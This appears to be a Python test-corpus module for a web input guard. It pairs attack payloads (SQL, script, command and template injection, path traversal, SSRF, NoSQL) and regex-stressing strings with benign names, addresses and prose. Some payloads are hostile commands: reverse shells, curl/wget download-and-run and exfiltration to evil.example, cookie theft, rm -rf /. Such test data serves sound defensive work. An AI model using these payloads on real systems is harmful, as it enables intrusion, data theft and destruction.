"""Attack and benign corpora for the hostile-input guard (tests/unit/test_guard_corpus.py).

Written for this project (no third-party payload lists are copied): base payloads per
category, the usual evasions applied to them (case, URL- and entity-encoding, comment and
whitespace tricks, a benign prefix), and realistic benign values of each kind of field.
"""

import re
from itertools import product
from urllib.parse import quote

# --- attacks -------------------------------------------------------------------------------
SQL = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' or 1=1#",
    '" OR ""="',
    "' or ''='",
    "admin'--",
    "admin' #",
    "admin'/*",
    "') OR ('a'='a",
    "')) OR (('x'='x",
    "1' AND 1=1--",
    "1 OR 1=1",
    "1 AND 2>1",
    "x' AND email IS NULL; --",
    "' OR TRUE--",
    "' or 1--",
    "1' ORDER BY 3--+",
    "1 ORDER BY 10#",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "-1' UNION SELECT 1,@@version,3#",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1; DROP TABLE users--",
    "'; DROP TABLE leads; --",
    "1'; DELETE FROM accounts WHERE '1'='1",
    "'; INSERT INTO users (email) VALUES ('x@y.z')--",
    "'; UPDATE users SET role='admin' WHERE id=1--",
    "1; SELECT pg_sleep(10)--",
    "1' AND SLEEP(5)#",
    "' OR SLEEP(5)='",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "'; WAITFOR DELAY '0:0:5'--",
    "'; EXEC xp_cmdshell('dir')--",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
    "' AND updatexml(1,concat(0x7e,user()),1)--",
    "'||(SELECT password FROM users LIMIT 1)||'",
    "' + char(39) + '",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users),1,1))>64--",
    "' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "' AND EXISTS(SELECT * FROM users)--",
    "' or (select 1)=1--",
    "1' GROUP BY id HAVING 1=1--",
    "' INTO OUTFILE '/var/www/shell.php'--",
    "' UNION SELECT LOAD_FILE('/etc/passwd')--",
    "'; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--",
    "1;SELECT * FROM pg_shadow",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "1 UN/**/ION SEL/**/ECT 1,2,3",
    "1/*!50000UNION*//*!50000SELECT*/1,2",
    "' oR '1'='1",
    "x' or 'x'='x",
    "' OR 'a' LIKE 'a",
    "' || '1'='1",
    "1' && 1=1 -- -",
    "'; SHUTDOWN--",
    "1 AND 1=1 UNION SELECT name FROM sqlite_master",
    "' AND 0x61646d696e = (SELECT name FROM users)--",
    "'; TRUNCATE TABLE audit--",
]
SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="fetch(\'//evil.example?c=\'+document.cookie)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "data:text/html,<script>alert(1)</script>",
    '<embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<base href="//evil.example/">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click me</x>",
    '<p onmouseover="alert(1)">hover</p>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>',
]
COMMAND = [
    "; cat /etc/passwd",
    "| cat /etc/shadow",
    "&& whoami",
    "|| id",
    "; id",
    "`id`",
    "$(whoami)",
    "$(cat /etc/passwd)",
    "; rm -rf /",
    "& ping -c 10 10.0.0.1 &",
    "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    "| curl http://evil.example/x | bash",
    "; curl -d @/etc/passwd http://evil.example",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; /bin/sh -c 'id'",
    "$(sleep 10)",
    "; sleep 10",
    "| sleep 5",
    "; uname -a",
    "& whoami",
    "| dir c:\\",
    "& type c:\\windows\\win.ini",
    "| powershell -enc SQBFAFgA",
    "; python -c 'import os; os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "; php -r 'system(\"id\");'",
    "; echo pwned > /tmp/x",
    "$(curl evil.example)",
    "cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "; mkfifo /tmp/f; cat /tmp/f | sh",
    "`curl evil.example`",
    "; chmod 777 /etc/passwd",
    "| base64 -d | sh",
    "a;ls -la",
    "x|ls /",
    "file.txt; ls -la /root",
    "; certutil -urlcache -f http://evil.example/x.exe x.exe",
    "&& net user hacker P@ss /add",
]
TRAVERSAL = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "c:\\windows\\system32\\config\\sam",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "../../../../var/log/auth.log",
    "../.env",
    "../../.ssh/id_rsa",
    "../../../root/.aws/credentials",
    "/var/www/../../etc/passwd",
    "..%5c..%5cwindows%5cwin.ini",
    "../../../etc/passwd%00.png",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://uploads/x.jpg",
    "/..;/..;/WEB-INF/web.xml",
    "..",
    "../",
    "..\\",
    "\\\\evil.example\\share\\x",
    "images/../../../../etc/hosts",
    "....\\\\....\\\\windows\\\\win.ini",
    "%2e%2e/%2e%2e/etc/group",
]
TEMPLATE = [
    "{{7*7}}",
    "{{ 7 * '7' }}",
    "{{config}}",
    "{{config.items()}}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.system('id') }}",
    "{% import os %}{{ os.system('id') }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "<%= 7*7 %>",
    "<%= system('id') %>",
    "#set($x = 7*7)$x",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "[[${7*7}]]",
    "{{=7*7}}",
    "{{ ''|attr('__class__') }}",
    "{{ request|attr('application') }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ x.__dict__ }}",
    "${{7*7}}",
    "{{ range.constructor('return process')() }}",
]
NOSQL_STRINGS = [
    '{"$gt": ""}',
    '{"$ne": null}',
    '{"$where": "sleep(1000)"}',
    "{'$regex': '.*'}",
    "[$ne]=1",
    "[$regex]=.*",
    "' || '1'=='1",
    "'; return true; var x='",
    "this.password.match(/.*/)",
    "$where: function() { return true }",
    '{"username": {"$exists": true}}',
    '{"$or": [{}, {"a": 1}]}',
    "'; sleep(5000); var x='",
    "[$gt]=",
    '{"$expr": {"$gt": [1, 0]}}',
]
NOSQL_KEYS = [
    "$gt",
    "$ne",
    "$where",
    "$regex",
    "$or",
    "$expr",
    "$function",
    "password__startswith",
    "email__regex",
    "_connector",
    "_negated",
    "role__in",
    "user__password__contains",
    "username[$ne]",
    " $nin",
]
PROTOTYPE_KEYS = [
    "__proto__",
    "constructor",
    "prototype",
    "__proto__.polluted",
    "a.__proto__",
    "__proto__[isAdmin]",
    "Constructor",
    "PROTOTYPE",
]
SSRF = [
    "http://127.0.0.1/",
    "http://127.0.0.1:8000/admin",
    "http://localhost/",
    "http://localhost:6379/",
    "https://LOCALHOST./x",
    "http://app.localhost/",
    "http://0.0.0.0/",
    "http://0/",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0.0.1/",
    "http://0177.0.0.1/",
    "http://017700000001/",
    "http://[::1]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[::ffff:169.254.169.254]/",
    "http://[fd00::1]/",
    "http://[fc00::abcd]/",
    "http://[fe80::1]/",
    "http://[64:ff9b::a9fe:a9fe]/",
    "http://[2002:a9fe:a9fe::]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/computeMetadata/v1/",
    "http://169.254.170.2/v2/credentials",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://metadata/",
    "http://instance-data/latest/",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/",
    "http://10.0.0.1/",
    "http://10.255.255.255:9200/_search",
    "http://172.16.0.1/",
    "http://172.31.255.1/",
    "http://192.168.1.1/",
    "http://192.168.0.1:8080/router",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://evil.example@127.0.0.1/",
    "http://user:pass@localhost:5432/",
    "http://127.0.0.1.nip.io/",
    "http://169.254.169.254.sslip.io/",
    "http://localtest.me/",
    "http://db.internal/",
    "http://printer.local/",
    "http://kubernetes.default.svc/api",
    "http://%31%32%37.0.0.1/",
    "http://127.0.0.1\\@example.com/",
    "http://example.com\\@127.0.0.1/",
    "http://ｌｏｃａｌｈｏｓｔ/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats",
    "ftp://internal.example/",
    "ldap://127.0.0.1/",
    "jar:http://evil.example/x.jar!/",
    "netdoc:///etc/passwd",
    "sftp://evil.example:22/",
    "tftp://evil.example/x",
    "javascript://example.com/%0aalert(1)",
]
# Refused in every field.
CONTROL_ANYWHERE = [
    "Ann\x00",
    "Ann\x00' OR 1=1",
    "name\x1b[31m",
    "Bob\x08\x08\x08Eve",
    "admin\u202egnp.exe",
    "invoice\u202dtxt",
    "bell\x07",
    "del\x7f",
    "c1\x85",
    "bom\ufeff",
]
# Refused in identifier-like fields; ordinary in prose (line breaks, RTL isolates).
CONTROL_IDENTIFIER = [
    "user\u2066admin\u2069",
    "zero\u200bwidth",
    "acme\r\nSet-Cookie: x=1",
    "line\nbreak",
    "tab\there",
    "rtl\u200fmark",
]


def _case_variants(text: str) -> list[str]:
    return [text, text.upper(), text.swapcase()]


def _encodings(text: str) -> list[str]:
    return [quote(text, safe=""), quote(quote(text, safe=""), safe="")]


def _entity(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'" else c for c in text)


def attacks() -> dict[str, list[str]]:
    """Category -> string payloads (values); keys are in attack_keys()."""
    sql = []
    for base in SQL:
        sql += [base, base.upper(), "Ann" + base, *_encodings(base)[:1]]
        if "/*" not in base:
            sql.append(base.replace(" ", "/**/"))
    script = []
    for base in SCRIPT:
        script += [base, base.upper(), _entity(base), quote(base, safe="")]
    command = []
    for base in COMMAND:
        command += [base, "report.pdf" + base, quote(base, safe="")]
    traversal = []
    for base in TRAVERSAL:
        traversal += [base, quote(base, safe="/") if "%" not in base else base]
    template = []
    for base in TEMPLATE:
        template += [base, "Hello " + base, quote(base, safe="")]
    nosql = list(NOSQL_STRINGS)
    return {
        "sql_injection": _unique(sql),
        "script_injection": _unique(script),
        "command_injection": _unique(command),
        "path_traversal": _unique(traversal),
        "template_injection": _unique(template),
        "nosql_injection": _unique(nosql),
        "ssrf": _unique(SSRF),
        "control_characters": _unique(CONTROL_ANYWHERE),
        "control_characters_identifier": _unique(CONTROL_IDENTIFIER),
    }


def attack_keys() -> dict[str, list[str]]:
    return {"nosql_injection": NOSQL_KEYS, "prototype_pollution": PROTOTYPE_KEYS}


def _unique(items: list[str]) -> list[str]:
    return list(dict.fromkeys(items))


# --- benign ---------------------------------------------------------------------------------
FIRST = ["Ann", "Seán", "Zoë", "José", "D'Arcy", "Jean-Luc", "Mary Ann", "Nguyễn", "Åsa", "Chloé"]
LAST = [
    "O'Brien",
    "D'Angelo",
    "O’Neill",
    "Smith-Jones",
    "van der Berg",
    "McDonald",
    "Ó Súilleabháin",
    "Select",
    "Union",
    "Drop",
]
NAMES_EXTRA = [
    "王伟",
    "Анна Петрова",
    "محمد علي",
    "Dr. Jane Doe, PhD",
    "AT&T",
    "Smith & Sons Ltd.",
    "Tom & Cat Bakery",
    "Ben & Jerry's",
    "Marks & Spencer",
    "Procter & Gamble",
    "Johnson & Johnson",
    "Rock 'n' Roll Café",
    "L'Oréal",
    "Hewlett-Packard",
    "Yahoo!",
    "C# Developers Guild",
    "R&D department",
    "Acme (Europe) GmbH",
    "100% Organic Co.",
    "Order by Noon Deliveries",
    "Union Square Cafe",
    "Select Comfort",
    "Drop Zone Ltd",
    "Insert Coin Games",
    "Exec Cars",
    "The Table Company",
    "Script & Seal",
    "Alert Security",
    "Sleep Country",
    "Delete Me Not",
    "Cat & Fiddle Pub",
    "Echo Park Studios",
    "Find My Home",
    "1-800-Flowers",
    "Ann <ann@example.com>",
    "Dalton's Bar; Grill",
    "Fish; Chips & More",
    "<3 Bakery",
    "5 < 6 Tutoring",
    "Price: $50 (incl. tax)",
    "Mary-Kate & Ashley",
    "St. John's Wood",
    "Hôtel de l'Europe",
    "Salt 'n' Pepper",
    "Café #1",
    "Room #12",
    "Unit 4/5",
    "Plan B: 50/50",
    "Q&A Session",
    "Who's Who",
]
ADDRESSES = [
    "Flat 3; 12 High Street, London",
    "12 Rue de l'Église; 75004 Paris",
    "Apt. 5B, 221B Baker St.; London NW1 6XE",
    "c/o Mr O'Hara, 5 Main St; Dublin 2",
    "Unit 7 / 19-21 King St; Sydney NSW 2000",
    "1600 Amphitheatre Pkwy; Mountain View, CA 94043",
    "Hauptstraße 5; 10115 Berlin",
    "Via dell'Orso 3; Roma",
    "PO Box 123; Wellington 6011",
    "Calle 10 #45-20; Bogotá",
    "Building A, Floor 3; Room 301",
    "Suite 100 -- ask at reception",
    "2nd floor (use the side door); ring twice",
    "10 Downing St; Westminster; London SW1A 2AA",
    "Room 4, Block C; Campus Drive",
]
PROSE = [
    "Please select the drop-off date in the calendar; we will confirm by email.",
    "Customer asked us to drop the table reservation for Friday and update the order.",
    "She said: 'I'll select the blue one or the red one.' Then she left.",
    "Call back at 3pm; he's in meetings until then.",
    "Union rep wants to discuss the new shift schedule; select two dates from the list.",
    "Delete the old invoice from the system and insert the corrected one.",
    "Where do we go from here? Order by Monday or we lose the slot.",
    "He's 100% sure -- no changes needed.",
    "Prices: 5 < 10 and 10 > 5; use <= for the discount rule.",
    "Follow-up: send the contract (v2) & the NDA.",
    "Note to self -- don't forget the 'final' version!",
    "O'Brien's team said the join date is 1 = 1 week from now (their words).",
    "I love this product <3",
    "The file is in Documents/Contracts/2024; ask Ann for access.",
    "Tried and true approach: call, email, then visit.",
    "Meeting agenda: 1) budget; 2) hiring; 3) the 'drop' in sales.",
    'Email subject was "Re: your order #12345".',
    "They use Python & SQL at work; interested in our analytics package.",
    "Rate: $120/hour; minimum 2 hours.",
    "Please don't call before 9:00 -- she works nights.",
    "Hi {name}, thanks for your interest!",
    "Discount code: SPRING-2024 (20% off)",
    "Address changed; see the new one above.",
    "He wrote 'or else' at the end, which seemed rude.",
    "Grade: A+ / B- depending on the rubric.",
    "Use the form at example.com/contact or call us.",
    "The sleep study results came back normal.",
    "Is 'Smith' or 'Smyth' the right spelling?",
    "It's a 50/50 chance; either way we win.",
    "Her username is jane_doe and she prefers email.",
    "Reminder: exec meeting moved to Thursday.",
    "Wants a quote for 3x 'Premium' & 2x 'Basic' plans.",
    "Let's select a venue from the shortlist and book it.",
    "Comment: great call; next steps -- send the proposal.",
    "مرحبا، نود تحديد موعد للاجتماع",
    "日本語のメモ：来週また連絡します。",
    "Привет! Перезвоните завтра, пожалуйста.",
    "Emoji test 🎉 — thanks again!",
    "We'll need the A/B test results by EOD; cc: marketing.",
    "Typical SQL question from the client: how do I select rows where status is 'won'?",
]
CODE_SNIPPETS = [
    "SELECT name, email FROM leads WHERE status = 'won' ORDER BY created_at DESC;",
    "for i in range(10):\n    print(i)",
    "const total = items.reduce((a, b) => a + b, 0);",
    'git commit -m "fix: typo" && git push',
    "Run `ls -la` in the project folder to see the files.",
    "if (a < b && b > c) { return a; }",
    "curl -X POST https://api.example.com/v1/items -d '{\"a\": 1}'",
    '<div class="card"><p>Hello</p></div>',
    "UPDATE settings SET theme = 'dark' WHERE user_id = 42;",
    "pip install requests==2.31.0",
    "def greet(name):\n    return f'Hello {name}'",
    "x = {'key': 'value', 'n': 1}",
    "grep -r 'TODO' src/ | wc -l",
    "a = b || c; d = e && f;",
    "<ul><li>one</li><li>two</li></ul>",
    "SELECT COUNT(*) FROM orders GROUP BY region;",
    "docker run -p 8080:80 nginx",
    "// comment\nlet x = 5;",
    "<b>bold</b> and <i>italic</i>",
    "WHERE name = 'Ann' AND status = 'won'",
]
URLS = [
    "https://example.com/",
    "https://www.example.org/pricing?plan=pro&ref=nav",
    "https://en.wikipedia.org/wiki/Django_(web_framework)",
    "https://github.com/django/django/pull/12345#issuecomment-1",
    "https://docs.python.org/3/library/re.html",
    "http://news.ycombinator.com/item?id=1",
    "https://shop.example.co.uk/products/blue-mug?colour=blue&size=l",
    "https://example.com/search?q=select+from+where",
    "https://example.com/a/b/c/d/e/f/g.html",
    "https://sub.domain.example.com:8443/path",
    "https://1.1.1.1/dns-query",
    "https://8.8.8.8/",
    "https://[2606:4700:4700::1111]/",
    "https://example.com/o'brien",
    "https://maps.example.com/@51.5,-0.12,12z",
    "https://example.com/path;param=1",
    "https://xn--mnchen-3ya.de/",
    "https://example.com/%E2%9C%93",
    "https://cafe.de/menu",
    "https://face.com/",
    "https://api.stripe.com/v1/charges",
    "https://hooks.slack.com/services/T000/B000/XXXX",
    "https://www.google.com/maps/place/Paris",
    "https://calendar.example.com/event?id=42&tz=Europe%2FLondon",
    "https://localhost-tools.example.com/",
]
SEARCHES = [
    "o'brien",
    "select",
    "union",
    "drop-off",
    "ann@example.com",
    "+44 20 7946 0958",
    "acme ltd",
    "where",
    "and",
    "or",
    "C++",
    "50%",
    "100% cotton",
    "rock & roll",
    "2024-05-01",
    "#123",
    "'quoted'",
    '"exact phrase"',
    "a/b",
    "smith; jones",
]


def benign() -> list[tuple[str, str]]:
    """(field kind, value): name / company / address / search / prose / code / url."""
    values = [("name", f"{f} {last}") for f, last in product(FIRST, LAST)]
    values += [("company", v) for v in NAMES_EXTRA]
    values += [("company", v) for v in ADDRESSES]
    values += [("prose", v) for v in ADDRESSES]
    values += [("prose", v) for v in PROSE]
    values += [("prose", p + " " + c) for p, c in zip(PROSE, CODE_SNIPPETS * 2, strict=False)]
    values += [("code", v) for v in CODE_SNIPPETS]
    values += [("url", v) for v in URLS]
    values += [("company", f"{f}'s {n}") for f, n in product(FIRST, ["Bakery", "Garage", "Salon"])]
    values += [("open", f"{f} {last}\nline two") for f, last in product(FIRST[:5], LAST[:4])]
    values += [("search", v) for v in SEARCHES]
    values += [("open", v) for v in NAMES_EXTRA + ADDRESSES + SEARCHES + URLS]
    values += [
        ("prose", f"Met {f} {last} today; they'll select a plan soon.")
        for f, last in product(FIRST[:6], LAST[:8])
    ]
    return values


# --- adversarial (ReDoS) ---------------------------------------------------------------------
# Strings built to make a backtracking rule retry a long scan from many starting points: an
# opening token of a rule repeated, or followed by a long run of a filler, up to the
# longest string the guard takes (20 000). tests/unit/test_guard_redos.py and the benchmark.
REPORTED = {  # found by the review and the outside test (seconds to minutes each, before)
    "quote + spaces": "'" + " " * 19_999,
    "{{- repeated": "{{-" * 1333,
    "{{- repeated, 20 000": "{{-" * 6666,
    "‹ repeated": "\u2039" * 20_000,
    "‹% repeated": "\u2039%" * 10_000,
    "[[ repeated": "[[" * 10_000,
    "&# + digits": "&#" + "1" * 19_998,  # html.unescape: int() of 19 998 digits
    "line breaks": "\n" * 20_000,
}
# Openings no rule starts with literally, or that a filler may extend (whitespace, parens,
# quotes, encodings, NFKC forms of the openers).
EXTRA_OPENINGS = [
    "')",
    "' or",
    "' or (",
    "' or 'a",
    "' ||",
    "' &&",
    "or 1=",
    "union (",
    "; update ",
    "select ",
    "sleep(",
    "waitfor ",
    "0xaaaaaa",
    "< ",
    "<a",
    "</",
    "onmouse",
    "{{-",
    "{%-",
    "${-",
    "\u2039",
    "\u2039%",
    "; curl x |",
    ";nc -a ",
    "> &",
    "this.a",
    "/*",
    "/*!",
    "*/",
    "%",
    "%25",
    "&#",
    "&#x",
    "&amp;",
    "\uff1c",
    "&lt;",
    "%3c",
    "' -- ",
    "\n ",
    " \n",
    "\t",
    "\r\n",
    "(",
    ")",
    "'='",
    "order by 1",
    "group by",
    "\u3002",
    "\uff0e",
    "\u2474",
    "\ufdfa",
    "-",
]
# What the SQL token shapes (actions/edge/guard/sqltokens.py) start from: each symbol's
# spellings, and the shapes' openings.
TOKEN_OPENINGS = [
    "and 1=",
    "or not (",
    "having 1=",
    "where 'a'=",
    "(select ",
    "(select (",
    "case when ",
    "case when (1=1) then ",
    "order by ",
    "group by 1,",
    "chr(",
    "pg_sleep(",
    "cast('",
    "'||",
    "'::",
    "::",
    "1=",
    "--",
    "#",
    "/* ",
    "'",
    '"',
    "''",
    "0x",
    "((",
    "is not null",
    " like ",
]
FILLERS = (" ", "a")


def _openings(items, budget: int = 3) -> list[str]:
    """The literal openings (up to `budget` characters) of a parsed regular expression."""
    from re import _constants as op  # the stdlib parser: test code, no API promise needed

    outs = [""]
    for code, arg in items:
        if all(len(o) >= budget for o in outs):
            break
        if code is op.LITERAL:
            alts = [chr(arg)]
        elif code is op.IN:
            alts = [chr(a) for c, a in arg if c is op.LITERAL][:2]
            alts += [chr(a[0]) for c, a in arg if c is op.RANGE][:1]
            if not alts:
                break
        elif code is op.SUBPATTERN:
            alts = _openings(arg[-1], budget)
        elif code is op.BRANCH:
            alts = [x for branch in arg[1] for x in _openings(branch, budget)]
        elif code in (op.MAX_REPEAT, op.MIN_REPEAT, op.POSSESSIVE_REPEAT) and arg[0] > 0:
            alts = _openings(arg[2], budget)
        elif code in (op.AT, op.ASSERT, op.ASSERT_NOT):
            continue
        else:
            break
        outs = [o + a for o in outs for a in alts][:64]
    return [o[:budget] for o in outs]


def rule_openings() -> list[str]:
    """Every literal opening of every rule of the guard (both strengths)."""
    from re import _parser

    from actions.edge.guard import rules

    found = set()
    for _, rule in rules.STRICT + rules.FREE_TEXT:
        if isinstance(rule, re.Pattern):
            found.update(_openings(_parser.parse(rule.pattern, rule.flags)))
    found.update(TOKEN_OPENINGS)  # the token rule (SQL_TOKENS) has no pattern to read
    return sorted(o for o in found if o)


def adversarial_groups(n: int = 20_000) -> dict[str, list[str]]:
    """Strings of n characters by what they start with: each reported string on its own,
    and each opening repeated, repeated with a filler, and followed by a run of a filler."""
    out = {label: [text[:n]] for label, text in REPORTED.items()}
    for opening in dict.fromkeys([*rule_openings(), *EXTRA_OPENINGS]):
        texts = [(opening * (n // len(opening) + 1))[:n]]
        for filler in FILLERS:
            unit = opening + filler
            texts.append((unit * (n // len(unit) + 1))[:n])
            texts.append((opening + filler * n)[:n])
        out[f"opening {opening!r}"] = texts
    return out


def adversarial(n: int = 20_000) -> list[str]:
    return [text for texts in adversarial_groups(n).values() for text in texts]
